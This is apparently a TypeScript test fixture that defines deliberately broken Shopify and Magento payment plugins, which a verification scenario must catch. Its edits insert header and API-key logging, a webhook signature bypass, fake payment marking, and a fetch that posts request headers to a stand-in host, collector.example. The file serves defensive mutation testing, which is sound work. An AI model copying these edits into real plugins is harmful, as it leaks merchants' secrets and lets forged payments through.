import type { CmsDriver } from "../../../actions/sandbox/src/cms/decide-driver.ts";

/** A change of one file of a generated plugin. */
export interface Edit {
  readonly file: string;
  readonly from: string;
  readonly to: string;
}

/** Plugins that must live at a contract host, as their pack makes them from a fixture's request. */
export const contractPlays: readonly (readonly [fixture: string, driver: CmsDriver])[] = [
  ["shopify-full-fr", "native"],
  ["shopify-refunds-ar", "native"],
  ["magento-full-fr", "native"],
  ["magento-refunds-ar", "native"],
  ["magento-full-fr", "wasm"],
];

export interface BadPlugin {
  readonly id: string;
  readonly fixture: string;
  readonly tries: string;
  readonly edits: readonly Edit[];
  /** Act that must find it. */
  readonly foundBy: string;
}

/** Plugins with one thing wrong, which the scenario must refuse. */
export const badPlugins: readonly BadPlugin[] = [
  {
    id: "shopify-keeps-the-shop",
    fixture: "shopify-full-fr",
    tries: "answers app/uninstalled with 200 and keeps all records",
    edits: [{ file: "web/src/shopify-webhooks.js", from: "await ports.store.forgetShop(shop);", to: "" }],
    foundBy: "uninstall",
  },
  {
    id: "shopify-logs-the-key",
    fixture: "shopify-full-fr",
    tries: "writes the headers of its calls into the log",
    edits: [
      {
        file: "web/src/provider-client.js",
        from: "const request = {",
        to: "console.info(JSON.stringify({ headers }));\n      const request = {",
      },
    ],
    foundBy: "logs",
  },
  {
    id: "shopify-asks-for-no-signature",
    fixture: "shopify-full-fr",
    tries: "takes every webhook of the provider for signed",
    edits: [
      {
        file: "web/src/provider-webhooks.js",
        from: 'if (secret === "" ||',
        to: 'if (headers !== null) return true;\n  if (secret === "" ||',
      },
    ],
    foundBy: "bad-webhooks",
  },
  {
    id: "shopify-calls-elsewhere",
    fixture: "shopify-full-fr",
    tries: "tells another host what it heard",
    edits: [
      {
        file: "web/src/provider-client.js",
        from: "const request = {",
        to: 'await fetch("https://collector.example/", { method: "POST", headers, body: "{}" }).catch(() => {});\n      const request = {',
      },
    ],
    foundBy: "logs",
  },
  {
    id: "magento-leaves-a-table",
    fixture: "magento-full-fr",
    tries: "uninstalls its settings and leaves its table",
    edits: [{ file: "Setup/Uninstall.php", from: "$connection->dropTable", to: "if (false) $connection->dropTable" }],
    foundBy: "uninstall",
  },
  {
    id: "magento-logs-the-key",
    fixture: "magento-full-fr",
    tries: "writes the headers of its calls into PHP's log",
    edits: [
      {
        file: "Gateway/Http/CurlTransport.php",
        from: "$curl->setTimeout(self::TIMEOUT);",
        to: "error_log(json_encode($headers)); $curl->setTimeout(self::TIMEOUT);",
      },
    ],
    foundBy: "logs",
  },
  {
    id: "magento-pays-twice",
    fixture: "magento-full-fr",
    tries: "forgets which webhooks it handled, and whether an order is paid",
    edits: [
      { file: "Model/SeenEvents.php", from: "            return false;", to: "            return true;" },
      {
        file: "Model/Payments.php",
        from: "        $this->whileLocked($incrementId, function (Order $order) use ($paymentId, $facts): string {\n            if (in_array($order->getState(), self::OPEN, true)) {",
        to: "        $this->whileLocked($incrementId, function (Order $order) use ($paymentId, $facts): string {\n            if (true) {",
      },
    ],
    foundBy: "bad-webhooks",
  },
  {
    id: "magento-only-pretends",
    fixture: "magento-full-fr",
    tries: "marks orders as paid without asking the provider for a checkout",
    edits: [
      {
        file: "Gateway/Command/InitializeCommand.php",
        from: "$this->checkout->execute($commandSubject);",
        to: "",
      },
    ],
    foundBy: "checkout",
  },
  {
    id: "magento-outside-the-kernel",
    fixture: "magento-full-fr",
    tries: "speaks to a part of Magento that the kernel does not have",
    edits: [
      {
        file: "Gateway/Command/InitializeCommand.php",
        from: "$this->checkout->execute($commandSubject);",
        to: "$this->checkout->execute($commandSubject); $payment->getOrder()->getShippingDescription();",
      },
    ],
    foundBy: "checkout",
  },
];
